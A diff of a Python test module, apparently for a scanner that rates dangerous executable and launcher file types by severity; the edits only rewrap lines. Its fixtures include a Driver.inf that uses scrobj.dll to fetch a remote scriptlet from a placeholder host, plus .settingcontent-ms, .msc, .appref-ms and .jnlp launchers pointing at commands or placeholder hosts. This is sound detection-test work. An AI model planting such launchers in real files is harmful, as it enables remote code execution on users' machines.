@@ -15,7 +15,10 @@ def cases() -> list[Case]:
 
 def _present() -> list[Case]:
     files = [("Viewer.exe", pe()), ("viewer", elf()), ("Viewer.app/Contents/MacOS/Viewer", macho()), ("Kiosk.AppImage", elf())]
-    files += [("codec.dll", pe(library=True)), ("play.jar", zip_of({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}))]
+    files += [
+        ("codec.dll", pe(library=True)),
+        ("play.jar", zip_of({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34"})),
+    ]
     return [single("program", name, body, "executable.present", least=Severity.INFO) for name, body in files]
 
 
@@ -60,7 +63,11 @@ def _launchers() -> list[Case]:
         ("Wifi.settingcontent-ms", setting("%windir%\\system32\\cmd.exe /c ver").encode(), HIGH),
         ("Sound.SettingContent-ms", setting("%windir%\\system32\\control.exe").encode("utf-16"), MEDIUM),
         ("Tool.appref-ms", f"http://{HOST}/t.application#t, Culture=neutral".encode("utf-16"), MEDIUM),
-        ("Tool.application", b'<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:a"><deployment install="true"/></asmv1:assembly>', MEDIUM),
+        (
+            "Tool.application",
+            b'<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:a"><deployment install="true"/></asmv1:assembly>',
+            MEDIUM,
+        ),
         ("Tool.appinstaller", f'<?xml version="1.0"?><AppInstaller xmlns="u" Uri="https://{HOST}/a"/>'.encode(), MEDIUM),
         ("Tool.jnlp", f'<?xml version="1.0"?><jnlp codebase="http://{HOST}"><application-desc/></jnlp>'.encode(), MEDIUM),
         ("Tool.xbap", b'<?xml version="1.0"?><assembly xmlns="urn:a"/>', MEDIUM),
@@ -73,7 +80,11 @@ def _launchers() -> list[Case]:
         ("Clock.gadget", zip_of({"gadget.xml": b"<gadget/>", "c.html": b"<html></html>"}), MEDIUM),
         ("Repair.msc", console("javascript:1").encode(), HIGH),
         ("Disk.msc", console("Disks").encode("utf-16"), MEDIUM),
-        ("Driver.inf", b"[Version]\r\nSignature=\"$Chicago$\"\r\n[DefaultInstall]\r\nUnRegisterOCXs=U\r\n[U]\r\n%11%\\scrobj.dll,NI,http://files.example.net/a\r\n", MEDIUM),
+        (
+            "Driver.inf",
+            b'[Version]\r\nSignature="$Chicago$"\r\n[DefaultInstall]\r\nUnRegisterOCXs=U\r\n[U]\r\n%11%\\scrobj.dll,NI,http://files.example.net/a\r\n',
+            MEDIUM,
+        ),
         ("Ann.contact", contact(".\\www\\site.cpl").encode(), MEDIUM),
         ("Manual.hlp", b"\x3f\x5f\x03\x00" + bytes(60), LOW),
         ("Play.com", b"\xb8\0\x4c\xcd\x21", LOW),
